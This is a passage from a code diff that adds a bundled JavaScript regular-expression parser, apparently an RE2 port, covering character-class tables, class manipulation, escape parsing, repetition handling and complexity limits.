+      if (op === Regexp.Op.PLUS) return sub;
+      return new Regexp(Regexp.Op.EMPTY_MATCH);
+    }
+    if (op === sub.op && (flags & RE2Flags.NON_GREEDY) === (sub.flags & RE2Flags.NON_GREEDY)) return sub;
+    if (re !== null && re.op === op && (re.flags & RE2Flags.NON_GREEDY) === (flags & RE2Flags.NON_GREEDY) && sub === re.subs[0]) return re;
+    const nre = new Regexp(op);
+    nre.flags = flags;
+    nre.subs = [sub];
+    return nre;
+  }
+};
+var CharGroup = class {
+  constructor(sign, cls) {
+    this.sign = sign;
+    this.cls = cls;
+  }
+};
+var code1 = [48, 57];
+var code2 = [
+  9,
+  10,
+  12,
+  13,
+  32,
+  32
+];
+var code3 = [
+  48,
+  57,
+  65,
+  90,
+  95,
+  95,
+  97,
+  122
+];
+var PERL_GROUPS = /* @__PURE__ */ new Map([
+  ["\\d", new CharGroup(1, code1)],
+  ["\\D", new CharGroup(-1, code1)],
+  ["\\s", new CharGroup(1, code2)],
+  ["\\S", new CharGroup(-1, code2)],
+  ["\\w", new CharGroup(1, code3)],
+  ["\\W", new CharGroup(-1, code3)]
+]);
+var code4 = [
+  48,
+  57,
+  65,
+  90,
+  97,
+  122
+];
+var code5 = [
+  65,
+  90,
+  97,
+  122
+];
+var code6 = [0, 127];
+var code7 = [
+  9,
+  9,
+  32,
+  32
+];
+var code8 = [
+  0,
+  31,
+  127,
+  127
+];
+var code9 = [48, 57];
+var code10 = [33, 126];
+var code11 = [97, 122];
+var code12 = [32, 126];
+var code13 = [
+  33,
+  47,
+  58,
+  64,
+  91,
+  96,
+  123,
+  126
+];
+var code14 = [
+  9,
+  13,
+  32,
+  32
+];
+var code15 = [65, 90];
+var code16 = [
+  48,
+  57,
+  65,
+  90,
+  95,
+  95,
+  97,
+  122
+];
+var code17 = [
+  48,
+  57,
+  65,
+  70,
+  97,
+  102
+];
+var POSIX_GROUPS = /* @__PURE__ */ new Map([
+  ["[:alnum:]", new CharGroup(1, code4)],
+  ["[:^alnum:]", new CharGroup(-1, code4)],
+  ["[:alpha:]", new CharGroup(1, code5)],
+  ["[:^alpha:]", new CharGroup(-1, code5)],
+  ["[:ascii:]", new CharGroup(1, code6)],
+  ["[:^ascii:]", new CharGroup(-1, code6)],
+  ["[:blank:]", new CharGroup(1, code7)],
+  ["[:^blank:]", new CharGroup(-1, code7)],
+  ["[:cntrl:]", new CharGroup(1, code8)],
+  ["[:^cntrl:]", new CharGroup(-1, code8)],
+  ["[:digit:]", new CharGroup(1, code9)],
+  ["[:^digit:]", new CharGroup(-1, code9)],
+  ["[:graph:]", new CharGroup(1, code10)],
+  ["[:^graph:]", new CharGroup(-1, code10)],
+  ["[:lower:]", new CharGroup(1, code11)],
+  ["[:^lower:]", new CharGroup(-1, code11)],
+  ["[:print:]", new CharGroup(1, code12)],
+  ["[:^print:]", new CharGroup(-1, code12)],
+  ["[:punct:]", new CharGroup(1, code13)],
+  ["[:^punct:]", new CharGroup(-1, code13)],
+  ["[:space:]", new CharGroup(1, code14)],
+  ["[:^space:]", new CharGroup(-1, code14)],
+  ["[:upper:]", new CharGroup(1, code15)],
+  ["[:^upper:]", new CharGroup(-1, code15)],
+  ["[:word:]", new CharGroup(1, code16)],
+  ["[:^word:]", new CharGroup(-1, code16)],
+  ["[:xdigit:]", new CharGroup(1, code17)],
+  ["[:^xdigit:]", new CharGroup(-1, code17)]
+]);
+var CharClass = class CharClass2 {
+  static charClassToString(r, len) {
+    let result = "[";
+    for (let i = 0; i < len; i += 2) {
+      if (i > 0) result += " ";
+      const lo = r[i];
+      const hi = r[i + 1];
+      if (lo === hi) result += `0x${lo.toString(16)}`;
+      else result += `0x${lo.toString(16)}-0x${hi.toString(16)}`;
+    }
+    result += "]";
+    return result;
+  }
+  static sortRanges(array, len) {
+    const n = len >> 1;
+    const order = new Array(n);
+    for (let i = 0; i < n; i++) order[i] = i;
+    order.sort((a, b) => array[2 * a] - array[2 * b] || array[2 * b + 1] - array[2 * a + 1]);
+    const sorted = array.slice(0, len);
+    for (let i = 0; i < n; i++) {
+      array[2 * i] = sorted[2 * order[i]];
+      array[2 * i + 1] = sorted[2 * order[i] + 1];
+    }
+  }
+  /**
+  * @param {number[]|Int32Array} [r]
+  */
+  constructor(r = Utils.emptyInts()) {
+    this.r = r;
+    this.len = r.length;
+  }
+  toArray() {
+    if (this.r instanceof Int32Array) return this.len === this.r.length ? this.r : this.r.subarray(0, this.len);
+    return new Int32Array(this.len === this.r.length ? this.r : this.r.slice(0, this.len));
+  }
+  toGrowableArray() {
+    if (Array.isArray(this.r)) {
+      this.r.length = this.len;
+      return this.r;
+    }
+    return Array.from(this.r.subarray(0, this.len));
+  }
+  cleanClass() {
+    if (this.len < 4) return this;
+    CharClass2.sortRanges(this.r, this.len);
+    let w = 2;
+    for (let i = 2; i < this.len; i += 2) {
+      const lo = this.r[i];
+      const hi = this.r[i + 1];
+      if (lo <= this.r[w - 1] + 1) {
+        if (hi > this.r[w - 1]) this.r[w - 1] = hi;
+        continue;
+      }
+      this.r[w] = lo;
+      this.r[w + 1] = hi;
+      w += 2;
+    }
+    this.len = w;
+    return this;
+  }
+  appendLiteral(x, flags) {
+    return (flags & RE2Flags.FOLD_CASE) !== 0 ? this.appendFoldedRange(x, x) : this.appendRange(x, x);
+  }
+  appendRange(lo, hi) {
+    if (this.len > 0) {
+      for (let i = 2; i <= 4; i += 2) if (this.len >= i) {
+        const rlo = this.r[this.len - i];
+        const rhi = this.r[this.len - i + 1];
+        if (lo <= rhi + 1 && rlo <= hi + 1) {
+          if (lo < rlo) this.r[this.len - i] = lo;
+          if (hi > rhi) this.r[this.len - i + 1] = hi;
+          return this;
+        }
+      }
+    }
+    this.r[this.len++] = lo;
+    this.r[this.len++] = hi;
+    return this;
+  }
+  appendFoldedRange(lo, hi) {
+    if (lo <= Unicode.MIN_FOLD && hi >= Unicode.MAX_FOLD) return this.appendRange(lo, hi);
+    if (hi < Unicode.MIN_FOLD || lo > Unicode.MAX_FOLD) return this.appendRange(lo, hi);
+    if (lo < Unicode.MIN_FOLD) {
+      this.appendRange(lo, Unicode.MIN_FOLD - 1);
+      lo = Unicode.MIN_FOLD;
+    }
+    if (hi > Unicode.MAX_FOLD) {
+      this.appendRange(Unicode.MAX_FOLD + 1, hi);
+      hi = Unicode.MAX_FOLD;
+    }
+    for (let c = lo; c <= hi; c++) {
+      this.appendRange(c, c);
+      for (let f = Unicode.simpleFold(c); f !== c; f = Unicode.simpleFold(f)) this.appendRange(f, f);
+    }
+    return this;
+  }
+  appendClass(x) {
+    for (let i = 0; i < x.length; i += 2) this.appendRange(x[i], x[i + 1]);
+    return this;
+  }
+  appendFoldedClass(x) {
+    for (let i = 0; i < x.length; i += 2) this.appendFoldedRange(x[i], x[i + 1]);
+    return this;
+  }
+  appendNegatedClass(x) {
+    let nextLo = 0;
+    for (let i = 0; i < x.length; i += 2) {
+      const lo = x[i];
+      const hi = x[i + 1];
+      if (nextLo <= lo - 1) this.appendRange(nextLo, lo - 1);
+      nextLo = hi + 1;
+    }
+    if (nextLo <= Unicode.MAX_RUNE) this.appendRange(nextLo, Unicode.MAX_RUNE);
+    return this;
+  }
+  appendTable(table) {
+    for (let i = 0; i < table.length; ++i) {
+      const lo = table.getLo(i);
+      const hi = table.getHi(i);
+      const stride = table.getStride(i);
+      if (stride === 1) {
+        this.appendRange(lo, hi);
+        continue;
+      }
+      for (let c = lo; c <= hi; c += stride) this.appendRange(c, c);
+    }
+    return this;
+  }
+  appendNegatedTable(table) {
+    let nextLo = 0;
+    for (let i = 0; i < table.length; ++i) {
+      const lo = table.getLo(i);
+      const hi = table.getHi(i);
+      const stride = table.getStride(i);
+      if (stride === 1) {
+        if (nextLo <= lo - 1) this.appendRange(nextLo, lo - 1);
+        nextLo = hi + 1;
+        continue;
+      }
+      for (let c = lo; c <= hi; c += stride) {
+        if (nextLo <= c - 1) this.appendRange(nextLo, c - 1);
+        nextLo = c + 1;
+      }
+    }
+    if (nextLo <= Unicode.MAX_RUNE) this.appendRange(nextLo, Unicode.MAX_RUNE);
+    return this;
+  }
+  appendTableWithSign(table, sign) {
+    return sign < 0 ? this.appendNegatedTable(table) : this.appendTable(table);
+  }
+  negateClass() {
+    let nextLo = 0;
+    let w = 0;
+    for (let i = 0; i < this.len; i += 2) {
+      const lo = this.r[i];
+      const hi = this.r[i + 1];
+      if (nextLo <= lo - 1) {
+        this.r[w] = nextLo;
+        this.r[w + 1] = lo - 1;
+        w += 2;
+      }
+      nextLo = hi + 1;
+    }
+    this.len = w;
+    if (nextLo <= Unicode.MAX_RUNE) {
+      this.r[this.len++] = nextLo;
+      this.r[this.len++] = Unicode.MAX_RUNE;
+    }
+    return this;
+  }
+  appendClassWithSign(x, sign) {
+    return sign < 0 ? this.appendNegatedClass(x) : this.appendClass(x);
+  }
+  appendGroup(g, foldCase) {
+    let cls = g.cls;
+    if (foldCase) cls = new CharClass2().appendFoldedClass(cls).cleanClass().toArray();
+    return this.appendClassWithSign(cls, g.sign);
+  }
+  toString() {
+    return CharClass2.charClassToString(this.r, this.len);
+  }
+};
+var StringIterator = class {
+  constructor(str) {
+    this.str = str;
+    this.position = 0;
+  }
+  pos() {
+    return this.position;
+  }
+  rewindTo(pos) {
+    this.position = pos;
+  }
+  more() {
+    return this.position < this.str.length;
+  }
+  peek() {
+    return this.str.codePointAt(this.position);
+  }
+  skip(n) {
+    this.position += n;
+  }
+  skipString(s) {
+    this.position += s.length;
+  }
+  pop() {
+    const r = this.str.codePointAt(this.position);
+    this.position += Utils.charCount(r);
+    return r;
+  }
+  lookingAt(s) {
+    return this.str.startsWith(s, this.position);
+  }
+  rest() {
+    return this.str.substring(this.position);
+  }
+  from(beforePos) {
+    return this.str.substring(beforePos, this.position);
+  }
+  toString() {
+    return this.rest();
+  }
+};
+var Parser2 = class Parser3 {
+  static ERR_INTERNAL_ERROR = "regexp/syntax: internal error";
+  static ERR_INVALID_CHAR_RANGE = "invalid character class range";
+  static ERR_INVALID_ESCAPE = "invalid escape sequence";
+  static ERR_INVALID_NAMED_CAPTURE = "invalid named capture";
+  static ERR_INVALID_PERL_OP = "invalid or unsupported Perl syntax";
+  static ERR_INVALID_REPEAT_OP = "invalid nested repetition operator";
+  static ERR_INVALID_REPEAT_SIZE = "invalid repeat count";
+  static ERR_MISSING_BRACKET = "missing closing ]";
+  static ERR_MISSING_PAREN = "missing closing )";
+  static ERR_MISSING_REPEAT_ARGUMENT = "missing argument to repetition operator";
+  static ERR_TRAILING_BACKSLASH = "trailing backslash at end of expression";
+  static ERR_DUPLICATE_NAMED_CAPTURE = "duplicate capture group name";
+  static ERR_UNEXPECTED_PAREN = "unexpected )";
+  static ERR_NESTING_DEPTH = "expression nests too deeply";
+  static ERR_LARGE = "expression too large";
+  static ERR_INVALID_CAPTURE_IN_LOOKBEHIND = "invalid capture in lookbehind";
+  static MAX_HEIGHT = 1e3;
+  static MAX_SIZE = 1398101;
+  static MAX_RUNES = 33554432;
+  static ANY_TABLE = new UnicodeRangeTable(new Uint32Array([
+    0,
+    Unicode.MAX_RUNE,
+    1
+  ]));
+  static ASCII_TABLE = new UnicodeRangeTable(new Uint32Array([
+    0,
+    127,
+    1
+  ]));
+  static ASCII_FOLD_TABLE = new UnicodeRangeTable(new Uint32Array([
+    0,
+    127,
+    1,
+    383,
+    383,
+    1,
+    8490,
+    8490,
+    1
+  ]));
+  static unicodeTable(name) {
+    if (name === "Any") return {
+      tab: Parser3.ANY_TABLE,
+      fold: Parser3.ANY_TABLE,
+      sign: 1
+    };
+    if (name === "Ascii") return {
+      tab: Parser3.ASCII_TABLE,
+      fold: Parser3.ASCII_FOLD_TABLE,
+      sign: 1
+    };
+    if (name === "Assigned") return {
+      tab: UnicodeTables.CATEGORIES.get("Cn"),
+      fold: UnicodeTables.CATEGORIES.get("Cn"),
+      sign: -1
+    };
+    if (name === "Lc") return {
+      tab: UnicodeTables.CATEGORIES.get("LC"),
+      fold: UnicodeTables.FOLD_CATEGORIES.get("LC"),
+      sign: 1
+    };
+    if (UnicodeTables.CATEGORIES.has(name)) return {
+      tab: UnicodeTables.CATEGORIES.get(name),
+      fold: UnicodeTables.FOLD_CATEGORIES.get(name),
+      sign: 1
+    };
+    if (UnicodeTables.SCRIPTS.has(name)) return {
+      tab: UnicodeTables.SCRIPTS.get(name),
+      fold: UnicodeTables.FOLD_SCRIPT.get(name),
+      sign: 1
+    };
+    return null;
+  }
+  static minFoldRune(r) {
+    if (r < Unicode.MIN_FOLD || r > Unicode.MAX_FOLD) return r;
+    let min = r;
+    const r0 = r;
+    for (r = Unicode.simpleFold(r); r !== r0; r = Unicode.simpleFold(r)) if (min > r) min = r;
+    return min;
+  }
+  static leadingRegexp(re) {
+    if (re.op === Regexp.Op.EMPTY_MATCH) return null;
+    if (re.op === Regexp.Op.CONCAT && re.subs.length > 0) {
+      const sub = re.subs[0];
+      if (sub.op === Regexp.Op.EMPTY_MATCH) return null;
+      return sub;
+    }
+    return re;
+  }
+  static literalRegexp(s, flags) {
+    const re = new Regexp(Regexp.Op.LITERAL);
+    re.flags = flags;
+    re.runes = Utils.stringToRunes(s);
+    return re;
+  }
+  /**
+  * Parse regular expression pattern {@code pattern} with mode flags {@code flags}.
+  * @param {string} pattern
+  * @param {number} flags
+  */
+  static parse(pattern, flags) {
+    return new Parser3(pattern, flags).parseInternal();
+  }
+  static parseRepeat(t) {
+    const start = t.pos();
+    if (!t.more() || !t.lookingAt("{")) return -1;
+    t.skip(1);
+    const min = Parser3.parseInt(t);
+    if (min === -1) return -1;
+    if (!t.more()) return -1;
+    let max;
+    if (!t.lookingAt(",")) max = min;
+    else {
+      t.skip(1);
+      if (!t.more()) return -1;
+      if (t.lookingAt("}")) max = -1;
+      else if ((max = Parser3.parseInt(t)) === -1) return -1;
+    }
+    if (!t.more() || !t.lookingAt("}")) return -1;
+    t.skip(1);
+    if (min < 0 || min > 1e3 || max === -2 || max > 1e3 || max >= 0 && min > max) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_REPEAT_SIZE, t.from(start));
+    return min << 16 | max & Unicode.MAX_BMP;
+  }
+  static isValidCaptureName(name) {
+    if (name.length === 0) return false;
+    for (let i = 0; i < name.length; i++) {
+      const c = name.codePointAt(i);
+      if (c !== Codepoint.CODES["_"] && !Utils.isalnum(c)) return false;
+    }
+    return true;
+  }
+  static parseInt(t) {
+    const start = t.pos();
+    while (t.more() && t.peek() >= Codepoint.CODES["0"] && t.peek() <= Codepoint.CODES["9"]) t.skip(1);
+    const n = t.from(start);
+    if (n.length === 0 || n.length > 1 && n.codePointAt(0) === Codepoint.CODES["0"]) return -1;
+    if (n.length > 8) return -2;
+    return parseInt(n, 10);
+  }
+  static isCharClass(re) {
+    return re.op === Regexp.Op.LITERAL && re.runes.length === 1 || re.op === Regexp.Op.CHAR_CLASS || re.op === Regexp.Op.ANY_CHAR_NOT_NL || re.op === Regexp.Op.ANY_CHAR;
+  }
+  static matchRune(re, r) {
+    switch (re.op) {
+      case Regexp.Op.LITERAL:
+        return re.runes.length === 1 && re.runes[0] === r;
+      case Regexp.Op.CHAR_CLASS:
+        for (let i = 0; i < re.runes.length; i += 2) if (re.runes[i] <= r && r <= re.runes[i + 1]) return true;
+        return false;
+      case Regexp.Op.ANY_CHAR_NOT_NL:
+        return r !== Codepoint.CODES["\n"];
+      case Regexp.Op.ANY_CHAR:
+        return true;
+    }
+    return false;
+  }
+  static mergeCharClass(dst, src) {
+    switch (dst.op) {
+      case Regexp.Op.ANY_CHAR:
+        break;
+      case Regexp.Op.ANY_CHAR_NOT_NL:
+        if (Parser3.matchRune(src, Codepoint.CODES["\n"])) dst.op = Regexp.Op.ANY_CHAR;
+        break;
+      case Regexp.Op.CHAR_CLASS: {
+        const cc = new CharClass(Array.isArray(dst.runes) ? dst.runes : Array.from(dst.runes));
+        if (src.op === Regexp.Op.LITERAL) cc.appendLiteral(src.runes[0], src.flags);
+        else cc.appendClass(src.runes);
+        dst.runes = cc.toGrowableArray();
+        break;
+      }
+      case Regexp.Op.LITERAL:
+        if (src.runes[0] === dst.runes[0] && src.flags === dst.flags) break;
+        dst.op = Regexp.Op.CHAR_CLASS;
+        dst.runes = new CharClass().appendLiteral(dst.runes[0], dst.flags).appendLiteral(src.runes[0], src.flags).toGrowableArray();
+    }
+  }
+  static parseEscape(t) {
+    const startPos = t.pos();
+    t.skip(1);
+    if (!t.more()) throw new RE2JSSyntaxException(Parser3.ERR_TRAILING_BACKSLASH);
+    let c = t.pop();
+    bigswitch: switch (c) {
+      case Codepoint.CODES["1"]:
+      case Codepoint.CODES["2"]:
+      case Codepoint.CODES["3"]:
+      case Codepoint.CODES["4"]:
+      case Codepoint.CODES["5"]:
+      case Codepoint.CODES["6"]:
+      case Codepoint.CODES["7"]:
+        if (!t.more() || t.peek() < Codepoint.CODES["0"] || t.peek() > Codepoint.CODES["7"]) break;
+      case Codepoint.CODES["0"]: {
+        let r = c - Codepoint.CODES["0"];
+        for (let i = 1; i < 3; i++) {
+          if (!t.more() || t.peek() < Codepoint.CODES["0"] || t.peek() > Codepoint.CODES["7"]) break;
+          r = r * 8 + t.peek() - Codepoint.CODES["0"];
+          t.skip(1);
+        }
+        return r;
+      }
+      case Codepoint.CODES["x"]: {
+        if (!t.more()) break;
+        c = t.pop();
+        if (c === Codepoint.CODES["{"]) {
+          let nhex = 0;
+          let r = 0;
+          while (true) {
+            if (!t.more()) break bigswitch;
+            c = t.pop();
+            if (c === Codepoint.CODES["}"]) break;
+            const v = Utils.unhex(c);
+            if (v < 0) break bigswitch;
+            r = r * 16 + v;
+            if (r > Unicode.MAX_RUNE) break bigswitch;
+            nhex++;
+          }
+          if (nhex === 0) break bigswitch;
+          return r;
+        }
+        const x = Utils.unhex(c);
+        if (!t.more()) break;
+        c = t.pop();
+        const y = Utils.unhex(c);
+        if (x < 0 || y < 0) break;
+        return x * 16 + y;
+      }
+      case Codepoint.CODES["a"]:
+        return Codepoint.CODES["\x07"];
+      case Codepoint.CODES["f"]:
+        return Codepoint.CODES["\f"];
+      case Codepoint.CODES["n"]:
+        return Codepoint.CODES["\n"];
+      case Codepoint.CODES["r"]:
+        return Codepoint.CODES["\r"];
+      case Codepoint.CODES["t"]:
+        return Codepoint.CODES["	"];
+      case Codepoint.CODES["v"]:
+        return Codepoint.CODES["\v"];
+      default:
+        if (c <= Unicode.MAX_ASCII && !Utils.isalnum(c)) return c;
+    }
+    throw new RE2JSSyntaxException(Parser3.ERR_INVALID_ESCAPE, t.from(startPos));
+  }
+  static parseClassChar(t, wholeClassPos) {
+    if (!t.more()) throw new RE2JSSyntaxException(Parser3.ERR_MISSING_BRACKET, t.from(wholeClassPos));
+    if (t.lookingAt("\\")) return Parser3.parseEscape(t);
+    return t.pop();
+  }
+  static hasCapture(re) {
+    if (re === null) return false;
+    if (re.op === Regexp.Op.CAPTURE) return true;
+    if (re.subs) {
+      for (let sub of re.subs) if (Parser3.hasCapture(sub)) return true;
+    }
+    return false;
+  }
+  constructor(wholeRegexp, flags = 0) {
+    this.wholeRegexp = wholeRegexp;
+    this.flags = flags;
+    this.numCap = 0;
+    this.namedGroups = /* @__PURE__ */ Object.create(null);
+    this.stack = [];
+    this.free = null;
+    this.numRegexp = 0;
+    this.numRunes = 0;
+    this.repeats = 0;
+    this.height = null;
+    this.size = null;
+    this.nlb = 0;
+  }
+  newRegexp(op) {
+    let re = this.free;
+    if (re !== null && re.subs !== null && re.subs.length > 0) {
+      this.free = re.subs[0];
+      re.reinit();
+      re.op = op;
+    } else {
+      re = new Regexp(op);
+      this.numRegexp += 1;
+    }
+    return re;
+  }
+  reuse(re) {
+    if (this.height !== null && this.height.has(re)) this.height.delete(re);
+    if (re.subs !== null && re.subs.length > 0) re.subs[0] = this.free;
+    this.free = re;
+  }
+  checkLimits(re) {
+    if (this.numRunes > Parser3.MAX_RUNES) throw new RE2JSSyntaxException(Parser3.ERR_LARGE);
+    this.checkSize(re);
+    this.checkHeight(re);
+  }
+  checkSize(re) {
+    if (this.size === null) {
+      if (this.repeats === 0) this.repeats = 1;
+      if (re.op === Regexp.Op.REPEAT) {
+        let n = re.max;
+        if (n === -1) n = re.min;
+        if (n <= 0) n = 1;
+        if (n > Math.floor(Parser3.MAX_SIZE / this.repeats)) this.repeats = Parser3.MAX_SIZE;
+        else this.repeats *= n;
+      }
+      if (this.numRegexp < Math.floor(Parser3.MAX_SIZE / this.repeats)) return;
+      this.size = /* @__PURE__ */ new Map();
+      for (let reEx of this.stack) this.checkSize(reEx);
+    }
+    if (this.calcSize(re, true) > Parser3.MAX_SIZE) throw new RE2JSSyntaxException(Parser3.ERR_LARGE);
+  }
+  calcSize(re, force = false) {
+    if (!force && this.size !== null) {
+      if (this.size.has(re)) return this.size.get(re);
+    }
+    let size = 0;
+    switch (re.op) {
+      case Regexp.Op.LITERAL:
+        size = re.runes.length;
+        break;
+      case Regexp.Op.PLB:
+      case Regexp.Op.NLB:
+      case Regexp.Op.CAPTURE:
+      case Regexp.Op.STAR:
+        size = 2 + this.calcSize(re.subs[0]);
+        break;
+      case Regexp.Op.PLUS:
+      case Regexp.Op.QUEST:
+        size = 1 + this.calcSize(re.subs[0]);
+        break;
+      case Regexp.Op.CONCAT:
+        for (let sub of re.subs) size = size + this.calcSize(sub);
+        break;
+      case Regexp.Op.ALTERNATE:
+        for (let sub of re.subs) size = size + this.calcSize(sub);
+        if (re.subs.length > 1) size = size + re.subs.length - 1;
+        break;
+      case Regexp.Op.REPEAT: {
+        let sub = this.calcSize(re.subs[0]);
+        if (re.max === -1) {
+          if (re.min === 0) size = 2 + sub;
+          else size = 1 + re.min * sub;
+          break;
+        }
+        size = re.max * sub + (re.max - re.min);
+        break;
+      }
+    }
+    size = Math.max(1, size);
+    if (this.size === null) this.size = /* @__PURE__ */ new Map();
+    this.size.set(re, size);
+    return size;
+  }
+  checkHeight(re) {
+    if (this.numRegexp < Parser3.MAX_HEIGHT) return;
+    if (this.height === null) {
+      this.height = /* @__PURE__ */ new Map();
+      for (let reEx of this.stack) this.checkHeight(reEx);
+    }
+    if (this.calcHeight(re, true) > Parser3.MAX_HEIGHT) throw new RE2JSSyntaxException(Parser3.ERR_NESTING_DEPTH);
+  }
+  calcHeight(re, force = false) {
+    if (!force && this.height !== null) {
+      if (this.height.has(re)) return this.height.get(re);
+    }
+    let h = 1;
+    for (let sub of re.subs) {
+      const hsub = this.calcHeight(sub);
+      if (h < 1 + hsub) h = 1 + hsub;
+    }
+    if (this.height === null) this.height = /* @__PURE__ */ new Map();
+    this.height.set(re, h);
+    return h;
+  }
+  pop() {
+    return this.stack.pop();
+  }
+  popToPseudo() {
+    const n = this.stack.length;
+    let i = n;
+    while (i > 0 && !Regexp.isPseudoOp(this.stack[i - 1].op)) i--;
+    return this.stack.splice(i, n - i);
+  }
+  push(re) {
+    this.numRunes += re.runes.length;
+    if (re.op === Regexp.Op.CHAR_CLASS && re.runes.length === 2 && re.runes[0] === re.runes[1]) {
+      if (this.maybeConcat(re.runes[0], this.flags & ~RE2Flags.FOLD_CASE)) return null;
+      re.op = Regexp.Op.LITERAL;
+      re.runes = [re.runes[0]];
+      re.flags = this.flags & ~RE2Flags.FOLD_CASE;
+    } else if (re.op === Regexp.Op.CHAR_CLASS && re.runes.length === 4 && re.runes[0] === re.runes[1] && re.runes[2] === re.runes[3] && Unicode.simpleFold(re.runes[0]) === re.runes[2] && Unicode.simpleFold(re.runes[2]) === re.runes[0] || re.op === Regexp.Op.CHAR_CLASS && re.runes.length === 2 && re.runes[0] + 1 === re.runes[1] && Unicode.simpleFold(re.runes[0]) === re.runes[1] && Unicode.simpleFold(re.runes[1]) === re.runes[0]) {
+      if (this.maybeConcat(re.runes[0], this.flags | RE2Flags.FOLD_CASE)) return null;
+      re.op = Regexp.Op.LITERAL;
+      re.runes = [re.runes[0]];
+      re.flags = this.flags | RE2Flags.FOLD_CASE;
+    } else this.maybeConcat(-1, 0);
+    this.stack.push(re);
+    this.checkLimits(re);
+    return re;
+  }
+  maybeConcat(r, flags) {
+    const n = this.stack.length;
+    if (n < 2) return false;
+    const re1 = this.stack[n - 1];
+    const re2 = this.stack[n - 2];
+    if (re1.op !== Regexp.Op.LITERAL || re2.op !== Regexp.Op.LITERAL || (re1.flags & RE2Flags.FOLD_CASE) !== (re2.flags & RE2Flags.FOLD_CASE)) return false;
+    if (!Array.isArray(re2.runes)) re2.runes = Array.from(re2.runes);
+    for (let i = 0; i < re1.runes.length; i++) re2.runes.push(re1.runes[i]);
+    if (r >= 0) {
+      re1.runes = [r];
+      re1.flags = flags;
+      return true;
+    }
+    this.pop();
+    this.reuse(re1);
+    return false;
+  }
+  newLiteral(r, flags) {
+    const re = this.newRegexp(Regexp.Op.LITERAL);
+    re.flags = flags;
+    if ((flags & RE2Flags.FOLD_CASE) !== 0) r = Parser3.minFoldRune(r);
+    re.runes = [r];
+    return re;
+  }
+  literal(r) {
+    this.push(this.newLiteral(r, this.flags));
+  }
+  op(op) {
+    const re = this.newRegexp(op);
+    re.flags = this.flags;
+    return this.push(re);
+  }
+  repeat(op, min, max, beforePos, t, lastRepeatPos) {
+    let flags = this.flags;
+    if ((flags & RE2Flags.PERL_X) !== 0) {
+      if (t.more() && t.lookingAt("?")) {
+        t.skip(1);
+        flags ^= RE2Flags.NON_GREEDY;
+      }
+      if (lastRepeatPos !== -1) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_REPEAT_OP, t.from(lastRepeatPos));
+    }
+    const n = this.stack.length;
+    if (n === 0) throw new RE2JSSyntaxException(Parser3.ERR_MISSING_REPEAT_ARGUMENT, t.from(beforePos));
+    const sub = this.stack[n - 1];
+    if (Regexp.isPseudoOp(sub.op)) throw new RE2JSSyntaxException(Parser3.ERR_MISSING_REPEAT_ARGUMENT, t.from(beforePos));
+    const re = this.newRegexp(op);
+    re.min = min;
+    re.max = max;
+    re.flags = flags;
+    re.subs = [sub];
+    this.stack[n - 1] = re;
+    this.checkLimits(re);
+    if (op === Regexp.Op.REPEAT && (min >= 2 || max >= 2) && !this.repeatIsValid(re, 1e3)) throw new RE2JSSyntaxException(Parser3.ERR_INVALID_REPEAT_SIZE, t.from(beforePos));
+  }
+  repeatIsValid(re, n) {
+    if (re.op === Regexp.Op.REPEAT) {
+      let m = re.max;
+      if (m === 0) return true;
+      if (m < 0) m = re.min;
+      if (m > n) return false;
+      if (m > 0) n = Math.trunc(n / m);
+    }
+    for (let sub of re.subs) if (!this.repeatIsValid(sub, n)) return false;
+    return true;
+  }
+  concat() {
+    this.maybeConcat(-1, 0);
+    const subs = this.popToPseudo();
+    if (subs.length === 0) return this.push(this.newRegexp(Regexp.Op.EMPTY_MATCH));
+    return this.push(this.collapse(subs, Regexp.Op.CONCAT));
+  }
+  alternate() {
+    const subs = this.popToPseudo();
+    if (subs.length > 0) this.cleanAlt(subs[subs.length - 1]);
+    if (subs.length === 0) return this.push(this.newRegexp(Regexp.Op.NO_MATCH));
+    return this.push(this.collapse(subs, Regexp.Op.ALTERNATE));
+  }
+  cleanAlt(re) {
+    if (re.op === Regexp.Op.CHAR_CLASS) {
+      re.runes = new CharClass(Array.from(re.runes)).cleanClass().toArray();
+      if (re.runes.length === 2 && re.runes[0] === 0 && re.runes[1] === Unicode.MAX_RUNE) {
+        re.runes = /* @__PURE__ */ new Int32Array(0);
+        re.op = Regexp.Op.ANY_CHAR;
+      } else if (re.runes.length === 4 && re.runes[0] === 0 && re.runes[1] === Codepoint.CODES["\n"] - 1 && re.runes[2] === Codepoint.CODES["\n"] + 1 && re.runes[3] === Unicode.MAX_RUNE) {
+        re.runes = /* @__PURE__ */ new Int32Array(0);
+        re.op = Regexp.Op.ANY_CHAR_NOT_NL;
+      }
+    }
+  }
+  collapse(subs, op) {
+    if (subs.length === 1) return subs[0];
+    let len = 0;
+    for (let sub of subs) len += sub.op === op ? sub.subs.length : 1;
+    let newsubs = new Array(len).fill(null);
+    let i = 0;
+    for (let sub of subs) if (sub.op === op) {
+      for (let j = 0; j < sub.subs.length; j++) newsubs[i++] = sub.subs[j];
+      this.reuse(sub);
+    } else newsubs[i++] = sub;
+    let re = this.newRegexp(op);
+    re.subs = newsubs;
+    if (op === Regexp.Op.ALTERNATE) {
+      re.subs = this.factor(re.subs);
+      if (re.subs.length === 1) {
+        const old = re;
+        re = re.subs[0];
+        this.reuse(old);
+      }
+    }
+    return re;
+  }
+  factor(array) {
+    if (array.length < 2) return array;
+    let s = 0;
+    let lensub = array.length;
+    let lenout = 0;
+    let str = null;
+    let strlen = 0;
+    let strflags = 0;
+    let start = 0;
+    for (let i = 0; i <= lensub; i++) {
+      let istr = null;
+      let istrlen = 0;
+      let iflags = 0;
+      if (i < lensub) {
+        let re = array[s + i];
+        if (re.op === Regexp.Op.CONCAT && re.subs.length > 0) re = re.subs[0];
+        if (re.op === Regexp.Op.LITERAL) {
+          istr = re.runes;
+          istrlen = re.runes.length;
+          iflags = re.flags & RE2Flags.FOLD_CASE;
+        }
+        if (iflags === strflags) {
+          let same2 = 0;
+          while (same2 < strlen && same2 < istrlen && str[same2] === istr[same2]) same2++;
+          if (same2 > 0) {
+            strlen = same2;
+            continue;
+          }
+        }
+      }
+      if (i === start) {
+      } else if (i === start + 1) array[lenout++] = array[s + start];
+      else {
+        const prefix = this.newRegexp(Regexp.Op.LITERAL);
+        prefix.flags = strflags;
+        prefix.runes = str.slice(0, strlen);
+        for (let j = start; j < i; j++) {
+          array[s + j] = this.removeLeadingString(array[s + j], strlen);
+          this.checkLimits(array[s + j]);
+        }
+        const suffix = this.collapse(array.slice(s + start, s + i), Regexp.Op.ALTERNATE);
